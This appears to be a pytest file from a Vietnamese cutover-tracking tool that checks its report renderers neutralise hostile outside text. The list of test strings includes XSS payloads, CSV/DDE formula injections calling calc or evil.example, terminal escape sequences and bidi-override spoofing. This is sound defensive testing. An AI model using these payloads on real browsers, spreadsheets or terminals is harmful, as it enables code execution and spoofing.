"""Text from outside is inert in every format (issue 8).

A matrix is built straight from `rollup` with one hostile string in every place outside text can
reach a report: checklist and step titles, summaries, owners, province and commune names,
probe and attestation reasons, waiver reasons and approvers.  Every registered format is
rendered from it and read back by the reader that format is for: xmllint against the JUnit
XSD, the csv module with default settings, openpyxl, promtool, a CommonMark parser, an HTML
parser and headless Chromium, and the terminal outputs are searched for escape sequences.
Each hostile string has a name, so a failure says which one broke what.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from zoneinfo import ZoneInfo

import pytest
from test_render import _tool, chromium, console_lines

from cutover.checklist import Endpoints, Title, load_checklist
from cutover.geo import Geography, Province
from cutover.render import REGISTRY, get
from cutover.render.base import RenderOptions
from cutover.render.csv import HEADER
from cutover.render.text import (
    LIMIT,
    bound,
    clean,
    csv_cell,
    html_text,
    markdown_cell,
    one_line,
    prom_label,
    terminal,
    xml_text,
)
from cutover.rollup import Evidence, History, Matrix, Waiver, rollup

HERE = Path(__file__).parent


class Hostile(NamedTuple):
    name: str
    text: str
    keep: str  # plain words that must still be visible once the text is made inert


HOSTILE = [
    Hostile(
        "script-tag",
        "<script>document.title='PWNED script-tag';console.log('PWNED script-tag')</script>",
        "PWNED script-tag",
    ),
    Hostile("img-onerror", "<img src=x onerror=\"document.title='PWNED img-onerror'\">", "onerror"),
    Hostile(
        "attribute-breakout",
        "\"'><svg onload=\"document.title='PWNED attribute-breakout'\"></svg>",
        "PWNED attribute-breakout",
    ),
    Hostile(
        "rawtext-breakout",
        "</title></style></textarea><script>console.log('PWNED rawtext-breakout')</script>",
        "PWNED rawtext-breakout",
    ),
    Hostile(
        "javascript-link",
        "<a href=\"javascript:document.title='PWNED javascript-link'\">click me</a>",
        "click me",
    ),
    Hostile("cdata-end", "]]><injected/><![CDATA[ cdata", "cdata"),
    Hostile("nul", "nul\x00byte", "nulbyte"),
    Hostile("xml-invalid-controls", "bell\x07bs\x08so\x0e\x1fdel\x7f \ufffe\uffff end", "bellbsso"),
    Hostile("lone-surrogates", "half \ud800 a pair \udfff", "a pair"),
    Hostile("formula-equals", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "HYPERLINK"),
    Hostile("formula-plus", "+1+cmd|' /C calc'!A0", "calc"),
    Hostile("formula-minus", "-2+3+cmd|' /C calc'!A0", "calc"),
    Hostile("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "SUM"),
    Hostile("formula-tab", "\t=1+1 tabbed", "tabbed"),
    Hostile("formula-cr", "\r=1+1 carriage", "carriage"),
    Hostile("formula-after-spaces", "   =1+1 spaced", "spaced"),
    Hostile("osc-window-title-bel", "\x1b]0;PWNED window title\x07shown", "shown"),
    Hostile("osc-window-title-st", "\x1b]2;PWNED window title\x1b\\shown", "shown"),
    Hostile(
        "osc8-hyperlink", "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\", "click here"
    ),
    Hostile("screen-clear", "\x1b[2J\x1b[3J\x1b[Hcleared", "cleared"),
    Hostile("csi-colour-cursor", "\x1b[31;1mred\x1b[0m \x1b[1A\x1b[2Kmoved", "moved"),
    Hostile("full-reset", "\x1bcafter reset", "after reset"),
    Hostile("c1-csi", "\x9b2J\x9b31mcsi eight bit", "csi eight bit"),
    Hostile("c1-osc", "\x9d0;PWNED c1 title\x9cosc eight bit", "osc eight bit"),
    Hostile("unterminated-osc", "\x1b]0;dangling title", "dangling title"),
    Hostile(
        "bidi-overrides", "invoice\u202efdp.exe\u202c \u2067isolate\u2069 \u200fmark", "invoice"
    ),
    Hostile("markdown-table-breakers", "a | b | breakers\n| x | y |\n|---|---|", "breakers"),
    Hostile(
        "markdown-markup",
        "`code` **bold** _em_ [link](javascript:alert(1)) ![img](http://evil.example/x.png) "
        "<b>tag</b> ~~strike~~ &amp; # heading \\| pipe",
        "heading",
    ),
    Hostile("line-breaks", "one\r\ntwo\nthree\rfour\u2028five\u2029six\x85seven", "seven"),
    Hostile("prometheus-breakers", 'quote " backslash \\ newline \n brace } end', "brace"),
    Hostile(
        "rich-markup",
        "[bold red]styled[/] [link=http://evil.example/]link[/link] [/unbalanced]",
        "unbalanced",
    ),
    Hostile("long-ascii", "A" * 50_000 + " tail", "cut, "),
    Hostile("long-vietnamese-json", '{"ý kiến": "' + "Ệ" * 40_000 + '"}', "cut, "),
]
IDS = [h.name for h in HOSTILE]
AS_OF = datetime(2025, 6, 29, 12, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))  # after every deadline
PROVINCES = ("01", "31", "48", "79")  # 31 has the commune-level step's every commune

# What must never reach an output: C0 controls but tab/newline, DEL, C1 controls, the Unicode
# Bidi_Control characters, surrogates and the two XML-forbidden noncharacters.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
    "\ud800-\udfff\ufffe\uffff]"
)
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the colours rich itself writes when asked to
MARKER = re.compile(r" … \[cut, ([0-9,]+) characters\]$")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


# -- the hostile matrix ---------------------------------------------------------------------


def hostile_matrix(geo: Geography, text: str) -> Matrix:
    """The shipped checklist with `text` in every title, summary and owner (every other owner
    written in both languages); four provinces and the first commune of each named `text`; every
    cell's evidence (probe or attestation) and waivers carrying `text`, in a mix that gives
    done, overdue, regressed, unknown, waived and insecure cells."""
    loaded = load_checklist(None, geo, Endpoints(geo))
    title = Title.model_construct(vi=text, en=text)  # unvalidated: lone surrogates and all
    steps = [
        s.model_copy(
            update={
                "title": title,
                "owner": title if i % 2 else text,
                "summary": title if i % 2 else None,
            }
        )
        for i, s in enumerate(loaded.checklist.steps)
    ]
    checklist = loaded.checklist.model_copy(update={"title": title, "steps": steps})
    provinces = []
    for code in PROVINCES:
        p = geo.by_code[code]
        communes = (replace(p.communes[0], name=text), *p.communes[1:])
        provinces.append(
            Province(p.spec.model_copy(update={"name": text, "name_en": text}), communes)
        )
    evidence: dict[tuple[str, str, str], Evidence] = {}
    was_done: set[tuple[str, str, str]] = set()
    waivers: dict[tuple[str, str], Waiver] = {}
    for pi, p in enumerate(provinces):
        for si, step in enumerate(steps):
            kind = (pi + si) % 6  # 0 done, 1 overdue, 2 regressed, 3 unknown, 4 waived, 5 insecure
            units = [c.code for c in p.communes] if step.level == "commune" else [""]
            for ui, unit in enumerate(units):
                passed = kind == 0 or ui > 0  # one commune carries the hostile failure
                outcome = "pass" if passed else "unknown" if kind == 3 else "fail"
                evidence[(p.code, step.id, unit)] = Evidence(
                    outcome,  # type: ignore[arg-type]
                    AS_OF - timedelta(hours=1),
                    reason=text,
                    observed=text,
                    source="attestation" if step.verify.manual else "probe",
                    by=text,
                    insecure=kind == 5,
                )
                if kind == 2:
                    was_done.add((p.code, step.id, unit))
            if kind == 4:
                waivers[(p.code, step.id)] = Waiver(
                    text, text, AS_OF + timedelta(days=1), AS_OF - timedelta(hours=2)
                )
    history = History(frozenset(was_done), waivers)
    return rollup(checklist, loaded.digest, provinces, steps, evidence, AS_OF, history)


@pytest.fixture(scope="module")
def matrices(geo: Geography) -> Callable[[str], Matrix]:
    made: dict[str, Matrix] = {}

    def of(text: str) -> Matrix:
        if text not in made:
            made[text] = hostile_matrix(geo, text)
        return made[text]

    return of


def test_the_hostile_matrix_reaches_every_kind_of_cell(matrices: Callable[[str], Matrix]) -> None:
    matrix = matrices(HOSTILE[0].text)
    statuses = set(matrix.statuses())
    assert {"done", "overdue", "regressed", "unknown", "waived"} <= statuses
    assert any(c.insecure for c in matrix.cells.values())
    assert any(c.fraction and c.status != "done" for c in matrix.cells.values())
    assert all(
        HOSTILE[0].text in c.reason
        for c in matrix.cells.values()
        if c.status not in ("done", "n/a")
    )


# -- the helpers ----------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE, ids=IDS)
def test_helpers_leave_nothing_active(hostile: Hostile) -> None:
    text = hostile.text
    for helper in (clean, terminal, csv_cell, xml_text, markdown_cell, html_text, prom_label):
        out = helper(text)
        assert not FORBIDDEN.search(out), f"{helper.__name__}: {out[:200]!r}"
        assert "\x1b" not in out
        out.encode("utf-8")  # strict: no surrogate survives to crash a write
    for helper in (clean, terminal, csv_cell, xml_text):
        assert len(helper(text)) <= LIMIT + 1  # + the quote a formula cell gets
    assert hostile.keep in terminal(text)
    assert "\n" not in terminal(text) and "\t" not in terminal(text)
    assert "\n" not in markdown_cell(text)
    assert not re.search(r"(?<!\\)\|", markdown_cell(text).replace("\\\\", ""))
    assert not csv_cell(text).lstrip(" ").startswith(FORMULA)
    assert not re.search(r"[<>\"']", html_text(text))
    assert "\n" not in prom_label(text) and not re.search(r'(?<!\\)"', prom_label(text))
    assert len(clean(text)) <= LIMIT
    for helper in (clean, one_line, terminal, csv_cell, xml_text):
        assert helper(helper(text)) == helper(text), helper.__name__


def test_escape_sequences_go_whole_not_only_their_escape() -> None:
    assert terminal("\x1b]0;evil title\x07shown") == "shown"
    assert terminal("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\") == "click"
    assert terminal("\x1b[2J\x1b[1;31mred\x1b[0m") == "red"
    assert terminal("\x9d0;evil\x9cshown \x9b2Jclear") == "shown clear"
    assert terminal("\x1bcreset") == "reset"
    assert terminal("a\u202eb\u2066c\u2069") == "abc"
    assert terminal("one\r\ntwo\n\nthree\tfour") == "one two three four"
    assert terminal("\x1b]0;never ends") == "0;never ends"  # no ESC left, rest shown as text


def test_csv_cell_neutralises_formula_starters_only() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1"):
        assert csv_cell(text).startswith("'"), text
    for text in ("Hà Nội", "1-2", "a=b", "", "'quoted"):
        assert csv_cell(text) == text


def test_markdown_and_prometheus_escapes() -> None:
    assert markdown_cell("a|b\nc `d` <e>") == "a\\|b c \\`d\\` \\<e\\>"
    assert prom_label('a"b\\c\nd') == 'a\\"b\\\\c\\nd'
    assert xml_text("a\x00b]]>c\ufffe") == "ab]]>c"


@pytest.mark.parametrize("length", [LIMIT, LIMIT + 1, LIMIT + 99, 12_345, 1_000_000])
def test_bound_cuts_visibly_and_says_how_much(length: int) -> None:
    text = "x" * length
    out = bound(text)
    assert len(out) <= LIMIT
    if length <= LIMIT:
        assert out == text
        return
    found = MARKER.search(out)
    assert found, out[-60:]
    kept = len(out) - len(found.group(0))
    assert out[:kept] == text[:kept]
    assert kept + int(found.group(1).replace(",", "")) == length
    assert clean(text) == out


# -- every format, read back by its reader --------------------------------------------------


@dataclass
class Case:
    """One hostile string's matrix, the options it is rendered with, a scratch directory."""

    matrix: Matrix
    hostile: Hostile
    options: RenderOptions
    tmp: Path

    def render(self, fmt: str, **changes: Any) -> str | bytes:
        return get(fmt)(self.matrix, replace(self.options, **changes))

    def text(self, fmt: str, **changes: Any) -> str:
        out = self.render(fmt, **changes)
        assert isinstance(out, str)
        out.encode("utf-8")  # strict, as a write to a file or stdout is
        return out

    def binary(self, fmt: str) -> bytes:
        out = self.render(fmt)
        assert isinstance(out, bytes)
        return out


def _assert_bounded(value: str, where: str) -> None:
    assert len(value) <= LIMIT + 100, f"{where}: {len(value)} characters"


def _check_terminal_text(text: str) -> None:
    assert "\x1b" not in text, f"raw ESC in {text!r:.300}"
    assert not FORBIDDEN.search(text.replace("\t", "")), f"{text!r:.300}"


def _check_table(case: Case) -> None:
    from rich.cells import cell_len

    matrix, hostile = case.matrix, case.hostile
    for color in (False, True):
        out = SGR.sub("", case.text("table", color=color, width=100))
        _check_terminal_text(out)
        assert all(cell_len(ln) <= 100 for ln in out.splitlines())  # wrapped, never wider
    # Wide enough that nothing wraps: one line per province and per step of the key, so no
    # text from outside forged a line.
    wide = case.text("table", width=WIDE)
    lines = wide.splitlines()
    codes = tuple(f"{p.code} " for p in matrix.provinces)  # 01 31 48 79: never a step number
    rows = [ln for ln in lines if ln.startswith(codes)]
    assert len(rows) == len(matrix.provinces)
    key = [ln for ln in lines if re.match(r"^ ?\d{1,2}  ", ln) and ln not in rows]
    assert len(key) == len(matrix.steps)
    assert hostile.keep in wide


WIDE = 3 * LIMIT  # columns in which no line of the terminal views wraps


def _check_check_view(case: Case) -> None:
    """`cutover check` output: not a registered format, the same duty."""
    from cutover.render import check_view
    from cutover.render.base import reason

    matrix, hostile = case.matrix, case.hostile
    options = replace(case.options, width=WIDE)
    for color in (False, True):
        out = check_view.render(matrix, replace(options, color=color), all_cells=True)
        _check_terminal_text(SGR.sub("", out))
    # Every line accounted for (a province heading and a blank line; per cell its title, its
    # status line and one line per note; the totals, the verdict; three lines per commune
    # cell with communes missing): no newline in outside text forged another.
    expected = 3 + 2  # the totals row under its heading, the verdict; the one above
    for p in matrix.provinces:
        expected += 2
        for s in matrix.steps:
            cell = matrix.cell(p.code, s.id)
            if cell.status == "n/a":
                continue
            notes = bool(cell.status != "done" and reason(cell, case.options.lang))
            expected += 2 + notes + cell.attested + cell.insecure
            expected += 3 * bool(s.level == "commune" and cell.missing)
    out = check_view.render(matrix, options, all_cells=True)
    assert len(out.splitlines()) == expected - 2
    assert hostile.keep in out


def _check_summary(case: Case) -> None:
    out = case.text("summary")
    matrix, hostile = case.matrix, case.hostile
    _check_terminal_text(out)
    behind = sum(
        1
        for s in matrix.steps
        if any(
            matrix.cell(p.code, s.id).status not in ("done", "n/a", "waived")
            for p in matrix.provinces
        )
    )
    national = sum(1 for s in matrix.steps if s.level == "commune")  # communes missing, in all
    insecure = any(c.insecure for c in matrix.cells.values())
    assert len(out.splitlines()) == 1 + behind + national + insecure + 1
    assert hostile.keep in out


def _check_json(case: Case) -> None:
    import jsonschema

    from cutover.render.json_schema import MATRIX_SCHEMA

    out = case.text("json")
    hostile = case.hostile
    assert not FORBIDDEN.search(out)  # C1 and bidi controls are not escaped by json.dumps
    data = json.loads(out)
    jsonschema.Draft202012Validator(MATRIX_SCHEMA).validate(data)

    def strings(node: Any) -> Iterator[str]:
        if isinstance(node, str):
            yield node
        elif isinstance(node, dict):
            for value in node.values():
                yield from strings(value)
        elif isinstance(node, list):
            for value in node:
                yield from strings(value)

    values = list(strings(data))
    for value in values:
        assert not FORBIDDEN.search(value), repr(value[:200])
        _assert_bounded(value, "json")
    assert any(hostile.keep in v for v in values)


def _check_csv(case: Case) -> None:
    out = case.binary("csv")
    matrix, hostile = case.matrix, case.hostile
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))  # default limits
    assert rows[0] == HEADER
    assert len(rows) == 1 + len(matrix.cells)
    for row in rows:
        assert len(row) == len(HEADER)
        for value in row:
            assert not value.lstrip(" ").startswith(FORMULA), repr(value[:80])
            assert not FORBIDDEN.search(value), repr(value[:200])
            _assert_bounded(value, "csv")
    assert any(hostile.keep in v for row in rows for v in row)
    _assert_cut_visibly([row[7] for row in rows[1:]], hostile)


def _assert_cut_visibly(reasons: list[str], hostile: Hostile) -> None:
    """A text longer than LIMIT is cut in every reason that carries it, with the marker (never
    Excel's silent cut at 32,767 or a CSV reader's field limit)."""
    if len(hostile.text) > LIMIT:
        carried = [r for r in reasons if r]
        assert carried and all(MARKER.search(r) for r in carried)


def _check_xlsx(case: Case) -> None:
    import openpyxl

    out = case.binary("xlsx")
    hostile = case.hostile
    book = openpyxl.load_workbook(io.BytesIO(out))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.comment is not None:
                    values.append(cell.comment.text)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(FORMULA), cell.coordinate
                    values.append(cell.value)
    for value in values:
        assert not FORBIDDEN.search(value), repr(value[:200])
        _assert_bounded(value, "xlsx")
    assert any(hostile.keep in v for v in values)
    _assert_cut_visibly(
        [str(r[7].value or "") for r in book.worksheets[1].iter_rows(min_row=2)], hostile
    )


def _check_markdown(case: Case) -> None:
    from markdown_it import MarkdownIt

    out = case.text("markdown")
    matrix, hostile = case.matrix, case.hostile
    assert not FORBIDDEN.search(out)
    # A row with too many cells still parses (the excess is dropped), so count the source's
    # unescaped pipes as well as what a CommonMark + GFM-tables parser makes of the rows.
    rows = [ln for ln in out.splitlines() if ln.startswith("|")]
    assert len(rows) == (2 + len(matrix.provinces) + 1) + (2 + len(matrix.steps))
    widths = [len(re.findall(r"(?<!\\)\|", ln)) for ln in rows]
    main = 2 + len(matrix.steps)
    assert widths == [main] * (3 + len(matrix.provinces)) + [4] * (2 + len(matrix.steps))
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    page = Structure()
    page.feed(parser.render(out))
    allowed = {"h1", "p", "table", "thead", "tbody", "tr", "th", "td", "strong", "code"}
    assert page.tags <= allowed, page.tags - allowed
    assert page.events == [] and page.urls == []
    provinces, legend = page.tables
    assert [len(r) for r in provinces] == [1 + len(matrix.steps)] * (len(matrix.provinces) + 2)
    assert [len(r) for r in legend] == [3] * (len(matrix.steps) + 1)
    shown = " ".join(one_line(hostile.text).split())  # as typed, nothing turned into markup
    for row, p in zip(provinces[1:], matrix.provinces, strict=False):
        assert " ".join(row[0].split()) == f"{p.code} {shown}"
    for row in legend[1:]:
        assert " ".join(row[1].split()).endswith(shown)
    assert hostile.keep in page.text


def _check_html(case: Case) -> None:
    from cutover.render.html import CSP

    out = case.text("html")
    matrix, hostile = case.matrix, case.hostile
    assert not FORBIDDEN.search(out)
    page = Structure()
    page.feed(out)
    page.close()
    page.assert_inert()
    assert page.csp == [CSP] and "script-src" not in CSP and "'unsafe-eval'" not in CSP
    assert len(page.tables[0]) == 1 + len(matrix.provinces) + 1  # the matrix keeps its rows
    assert hostile.keep in page.text


def _check_junit(case: Case) -> None:
    from xml.etree import ElementTree as ET

    out = case.text("junit")
    matrix, hostile = case.matrix, case.hostile
    path = case.tmp / "matrix.xml"
    path.write_text(out, encoding="utf-8")
    check = subprocess.run(
        [_tool("xmllint"), "--noout", "--schema", str(HERE / "JUnit.xsd"), str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert check.returncode == 0, check.stderr[-2000:]
    root = ET.fromstring(out.encode("utf-8"))
    assert len(root.findall("testsuite/testcase")) == len(matrix.cells)
    texts = [v for e in root.iter() for v in (e.text or "", *e.attrib.values())]
    for value in texts:
        _assert_bounded(value, "junit")
    assert any(hostile.keep in v for v in texts)


def _check_prometheus(case: Case) -> None:
    out = case.text("prometheus")
    _promtool(out)
    assert out.count("cutover_cell_status{") == len(case.matrix.cells) * 10


def _promtool(text: str) -> None:
    check = subprocess.run(
        [_tool("promtool"), "check", "metrics"],
        input=text,
        capture_output=True,
        text=True,
        check=False,
    )
    assert check.returncode == 0, check.stdout + check.stderr


CHECKS: dict[str, Callable[[Case], None]] = {
    "table": _check_table,
    "json": _check_json,
    "csv": _check_csv,
    "markdown": _check_markdown,
    "html": _check_html,
    "junit": _check_junit,
    "prometheus": _check_prometheus,
    "xlsx": _check_xlsx,
    "summary": _check_summary,
}


def test_every_registered_format_has_its_reader() -> None:
    assert set(CHECKS) == set(REGISTRY)


# Vietnamese takes other branches (names, clauses, words); a few strings prove them too.
CASES = [pytest.param(h, "en", id=h.name) for h in HOSTILE] + [
    pytest.param(h, "vi", id=f"{h.name}-vi")
    for h in HOSTILE
    if h.name in ("script-tag", "osc8-hyperlink", "markdown-table-breakers", "formula-equals")
]


@pytest.mark.parametrize("fmt", [*REGISTRY, "check"])
@pytest.mark.parametrize(("hostile", "lang"), CASES)
def test_format_stays_inert(
    matrices: Callable[[str], Matrix], hostile: Hostile, lang: str, fmt: str, tmp_path: Path
) -> None:
    options = RenderOptions(lang=lang, color=False)  # type: ignore[arg-type]
    case = Case(matrices(hostile.text), hostile, options, tmp_path)
    (_check_check_view if fmt == "check" else CHECKS[fmt])(case)


def test_prometheus_label_values_read_back_by_promtool() -> None:
    """No renderer puts free text in a label today; `prom_label` is still proved on every
    hostile string: promtool accepts the exposition, and the value reads back as `clean`."""
    lines = ["# HELP cutover_inert_test Hostile label values.", "# TYPE cutover_inert_test gauge"]
    for i, hostile in enumerate(HOSTILE):
        lines.append(f'cutover_inert_test{{case="{i}",text="{prom_label(hostile.text)}"}} 1')
        escaped = lines[-1].split('text="', 1)[1].rsplit('"} 1', 1)[0]
        unescaped = re.sub(r"\\(.)", lambda m: "\n" if m.group(1) == "n" else m.group(1), escaped)
        assert unescaped == clean(hostile.text), hostile.name
    _promtool("\n".join(lines) + "\n")


# -- HTML, structurally and in a browser -----------------------------------------------------

HTML_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "section", "h1", "h2",
    "h3", "p", "strong", "b", "br", "code", "ul", "li", "a", "table", "thead", "tbody", "tfoot",
    "tr", "th", "td", "div", "span", "figure", "figcaption", "svg", "line", "text", "polyline",
    "circle",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "srcdoc", "action", "formaction", "xlink:href", "data"}


class Structure(HTMLParser):
    """Tags, attributes, table cells and text of an HTML page, as a browser's tokenizer sees
    them: `tables` holds each table's rows of cell texts, in the order the tables close."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.events: list[str] = []
        self.urls: list[str] = []
        self.csp: list[str] = []
        self.tables: list[list[list[str]]] = []
        self._open: list[list[list[str]]] = []
        self._in_cell = False
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.events.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and not (value or "").startswith("#"):
                self.urls.append(f"<{tag} {name}={value}>")  # links within the page are fine
            if name == "content" and ("http-equiv", "Content-Security-Policy") in attrs:
                self.csp.append(value or "")
        if tag == "table":
            self._open.append([])
        elif tag == "tr" and self._open:
            self._open[-1].append([])
        elif tag in ("td", "th") and self._open and self._open[-1]:
            self._open[-1][-1].append("")
            self._in_cell = True

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th"):
            self._in_cell = False
        elif tag == "table" and self._open:
            self.tables.append(self._open.pop())

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._in_cell:
            self._open[-1][-1][-1] += data

    def assert_inert(self) -> None:
        assert self.tags <= HTML_TAGS, self.tags - HTML_TAGS
        assert self.events == [] and self.urls == []


def test_html_runs_no_script_in_chromium(matrices: Callable[[str], Matrix], tmp_path: Path) -> None:
    """Every script-bearing string at once, in a real browser: once as rendered (nothing may
    even be refused by the CSP, since nothing may try), once with the CSP taken out so that
    escaping alone is what stops the payloads from setting the title or logging."""
    from cutover.render.html import CSP

    payloads = " ¶ ".join(h.text for h in HOSTILE if len(h.text) < 500)
    page = str(get("html")(matrices(payloads), RenderOptions()))
    assert len(clean(payloads)) < LIMIT  # all of it reaches the page
    without_csp = page.replace(f'<meta http-equiv="Content-Security-Policy" content="{CSP}">', "")
    assert without_csp != page
    for name, html in (("with-csp", page), ("without-csp", without_csp)):
        path = tmp_path / f"{name}.html"
        path.write_text(html, encoding="utf-8")
        dom = chromium(path, tmp_path / f"profile-{name}", "--dump-dom")
        assert dom.returncode == 0, dom.stderr[-2000:]
        assert console_lines(dom) == [], name
        title = re.search(r"<title>(.*?)</title>", dom.stdout, re.S)
        assert title and not title.group(1).startswith("PWNED"), (name, title)
        seen = Structure()
        seen.feed(dom.stdout)
        seen.assert_inert()
        assert "PWNED script-tag" in seen.text  # shown as text, not run


def test_through_the_store_and_the_command_line(
    cli, tmp_path: Path, elsewhere: Path, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    """A note, an attester and a waiver typed on the command line, stored in SQLite and read
    back by `matrix` and `summary`: still inert at the other end."""
    text = "=cmd|' /C calc'!A0 \x1b]0;PWNED\x07<img src=x onerror=alert(1)> a|b\nforged \u202eline"
    mark = cli("mark", "31", "commune-plans", "--by", text, "--note", text, "--status", "failed",
               "--evidence", "https://evidence.example/x")  # fmt: skip
    assert mark.code == 0, mark.err
    waive = cli("waive", "01", "sso-test", "--reason", text, "--approver", text,
                "--until", "2099-01-01T00:00+07:00")  # fmt: skip
    assert waive.code == 0, waive.err
    steps = ("--step", "commune-plans", "--step", "sso-test")
    monkeypatch.setenv("COLUMNS", "200")  # lines wrap at the terminal's width; not here
    check = cli("check", "--province", "31", "--step", "commune-plans", "--all-cells")
    shown = "=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> a|b forged line"
    line = next(ln for ln in check.lines if "calc" in ln)  # manual: no probe runs
    assert re.fullmatch(rf"      {re.escape(shown)}; quá hạn \d+ ngày", line)  # note, deadline
    assert "\x1b" not in check.out and "\u202e" not in check.out
    assert check.lines[:3] == [
        "31 Thành phố Hải Phòng: 1/1 nhiệm vụ chưa hoàn thành",
        "   1  Cấp xã ban hành kế hoạch chi tiết từng đầu việc, gửi Ban Chỉ đạo",
        "      ‼ quá hạn · hạn 23/06 23:59 · chủ trì: Ủy ban nhân dân cấp xã",
    ]
    assert f"      xác nhận bởi {shown}" in check.lines  # who attested, on its own line
    data = tmp_path / "cells.csv"
    cli("matrix", *steps, "--format", f"csv:{data}")
    rows = list(csv.DictReader(io.StringIO(data.read_text(encoding="utf-8-sig"), newline="")))
    reasons = {(r["province_code"], r["step"]): r["reason"] for r in rows}
    assert reasons[("31", "commune-plans")].startswith("'=cmd|")
    assert reasons[("01", "sso-test")].startswith("'=cmd|")
    assert "\x1b" not in data.read_text(encoding="utf-8-sig")
    html = cli("matrix", *steps, "--format", "html")
    page = Structure()
    page.feed(html.out)
    page.assert_inert()
    assert "<img src=x onerror=alert(1)>" in page.text  # the attention list, as text


def test_clean_takes_its_shortcut_only_where_the_expressions_change_nothing() -> None:
    """`clean` returns printable text as it is (bounded): every code point of Unicode, and
    random mixes of printable and unprintable ones, clean exactly as the four expressions
    alone would."""
    import random

    from cutover.render import text

    def expressions(value: str) -> str:
        value = text._SEQUENCES.sub("", value)
        value = text._LINE_BREAKS.sub("\n", value)
        value = text._REMOVED.sub("", value)
        return text.bound(text._SURROGATES.sub("\ufffd", value))

    for point in range(0x110000):
        assert text.clean(chr(point)) == expressions(chr(point)), hex(point)
    draws = random.Random(7)
    alphabet = "aZ ồ漢\t\n\r\x1b[31m\x9b\u202e\u2028\ud800\ufffe\x00é"
    for _ in range(20_000):
        sample = "".join(draws.choice(alphabet) for _ in range(draws.randrange(0, 12)))
        assert text.clean(sample) == expressions(sample), repr(sample)


# --- every stderr line ------------------------------------------------------------------------


def test_every_stderr_line_is_inert(  # type: ignore[no-untyped-def]
    cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, elsewhere
) -> None:
    """Whatever a message quotes (here a crash's text, as an exception from a library might
    carry a server's or a file's words) reaches stderr without escapes, bidi overrides or a
    line break that would forge a second `cutover:` line."""
    from cutover import service

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug \x1b]0;retitled\x07\x1b[2J\u202eevil\ncutover: forged")

    monkeypatch.setenv("CUTOVER_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setattr(service, "prepare", broken)
    ran = cli("matrix")
    assert ran.code == 3
    assert len(ran.err_lines) == 1, ran.err_lines
    assert ran.err_lines[0].startswith(
        "cutover: internal error: RuntimeError: a bug evil cutover: forged (traceback in "
    )
    assert not any(c in ran.err for c in "\x1b\x07\u202e"), ran.err


def test_only_the_cli_writes_stderr_lines() -> None:
    """One place (`cli.app.stderr_line`) writes every `cutover:` line, so the rule above
    cannot be forgotten by a new command or a library module."""
    src = Path(__file__).parent.parent / "src" / "cutover"
    writers = sorted(
        f"{path.relative_to(src)}:{n}"
        for path in src.rglob("*.py")
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"stderr\.(buffer\.)?write\(|file=(sys\.)?stderr", line)
    )
    assert writers == [], writers
